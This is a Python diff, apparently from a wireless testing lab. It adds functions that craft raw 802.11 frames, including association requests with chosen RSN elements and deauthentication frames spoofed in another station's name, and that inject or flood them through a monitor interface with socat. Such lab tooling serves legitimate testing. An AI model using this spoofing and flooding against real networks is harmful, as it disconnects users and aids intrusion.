@@ -1,0 +1,60 @@
+"""Frames that no driver would send: association requests with a chosen RSN element, farewells in somebody else's name."""
+
+from __future__ import annotations
+
+import struct
+from collections.abc import Sequence
+
+from lab.probe.air.elements import write_rsn
+from lab.reach import Channel
+
+_RADIOTAP = b"\x00\x00\x08\x00\x00\x00\x00\x00"  # no field: the radio's own choices
+_AUTHENTICATION, _ASSOCIATION, _DEAUTHENTICATION = 0xB0, 0x00, 0xC0
+_RATES = bytes([1, 8, 0x82, 0x84, 0x8B, 0x96, 0x0C, 0x12, 0x18, 0x24])
+_ESS_PRIVACY = 0x0011
+_LARGEST = 1 << 10  # bytes of any of these frames
+_PATIENCE = 30.0
+
+
+def authentication(station: str, bssid: str) -> bytes:
+    """The first step of joining: open system (IEEE 802.11-2020, 12.3.3.2)."""
+    return _frame(_AUTHENTICATION, bssid, station, bssid, struct.pack("<HHH", 0, 1, 0))
+
+
+def association(station: str, bssid: str, ssid: str, *, akm: int, capabilities: int, pairwise: int = 4) -> bytes:
+    """An association request whose RSN element names these suites and capabilities (bits: see `elements`)."""
+    name = ssid.encode()
+    body = struct.pack("<HH", _ESS_PRIVACY, 10) + bytes([0, len(name)]) + name + _RATES
+    body += write_rsn(akm=akm, pairwise=pairwise, capabilities=capabilities)
+    return _frame(_ASSOCIATION, bssid, station, bssid, body)
+
+
+def deauthentication(receiver: str, transmitter: str, bssid: str, reason: int) -> bytes:
+    """A farewell in clear, in whoever's name."""
+    return _frame(_DEAUTHENTICATION, receiver, transmitter, bssid, struct.pack("<H", reason))
+
+
+def send(channel: Channel, interface: str, frames: Sequence[bytes]) -> None:
+    """Send frames by a monitor interface of that host, in order. LabError if the host won't."""
+    for frame in frames:
+        argv = ["socat", "-u", "-b", str(_LARGEST), "STDIN", f"INTERFACE:{interface}"]
+        channel.run(argv, stdin=frame, timeout=_PATIENCE).check()
+
+
+def flood(channel: Channel, interface: str, frame: bytes, times: int) -> None:
+    """Send the same frame many times, as fast as the host can."""
+    line = (
+        'f=$(mktemp) && cat >"$f.one" && for i in $(seq {times}); do cat "$f.one"; done >"$f" && '
+        'socat -u -b {size} "OPEN:$f" INTERFACE:{interface}; code=$?; rm -f "$f" "$f.one"; exit $code'
+    )
+    text = line.format(times=times, size=len(frame), interface=interface)
+    channel.run(text, stdin=frame, timeout=_PATIENCE).check()
+
+
+def _frame(kind: int, receiver: str, transmitter: str, bssid: str, body: bytes) -> bytes:
+    header = struct.pack("<BBH", kind, 0, 0) + _mac(receiver) + _mac(transmitter) + _mac(bssid) + b"\x00\x00"
+    return _RADIOTAP + header + body
+
+
+def _mac(text: str) -> bytes:
+    return bytes.fromhex(text.replace(":", ""))
